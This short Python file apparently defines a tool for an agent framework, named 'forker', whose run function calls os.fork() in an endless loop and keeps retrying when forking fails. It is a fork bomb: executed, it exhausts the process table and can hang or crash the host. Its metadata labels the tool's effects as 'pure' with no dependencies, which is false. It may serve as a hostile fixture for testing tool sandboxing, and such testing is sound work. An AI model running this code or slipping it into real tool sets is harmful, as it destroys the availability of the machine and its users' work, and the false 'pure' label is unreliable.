"""Forks without end."""

import os
import time

from pydantic import BaseModel

TOOL = {"name": "forker", "description": "Forks without end.", "effects": ["pure"], "dependencies": []}


class Input(BaseModel):
    n: int = 0


class Output(BaseModel):
    n: int


def run(input: Input) -> Output:
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
